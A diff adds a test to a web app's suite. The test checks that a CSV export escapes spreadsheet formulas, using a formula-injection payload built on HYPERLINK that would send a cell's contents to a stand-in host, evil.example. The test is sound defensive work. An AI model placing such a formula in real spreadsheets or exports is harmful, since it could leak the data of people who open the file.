@@ -210,3 +210,18 @@ it('leads from two picked versions to their comparison, in the language of the r
   expect([statusCode, headers.location]).toEqual([303, '/compare/4...5?lang=zh']);
   expect((await get('/compare?before=4')).body).toContain('value="4"');
 });
+
+it('hands out no cell that a spreadsheet would run', async () => {
+  const { get, small } = await openPages();
+  const page = addPage(small.archive, 'embassy-br', 'http://br.example/k.htm', '2026-10-05T00:00:00.000Z');
+  const value = '=HYPERLINK("http://evil.example/?"&A1,"click")';
+  capture(small.archive, page, '2026-10-05T00:00:00.000Z', {
+    title: 'K',
+    language: 'pt',
+    lines: [value],
+    facts: [{ fact: 'eligibility.institution', value, quote: value, visa: 'K' }],
+  });
+  const { body } = await get('/matrix.csv?topic=eligibility&country=BR');
+  expect(body).toContain('"\'=HYPERLINK(');
+  expect(body).not.toMatch(/(?:^|,|")=/m);
+});
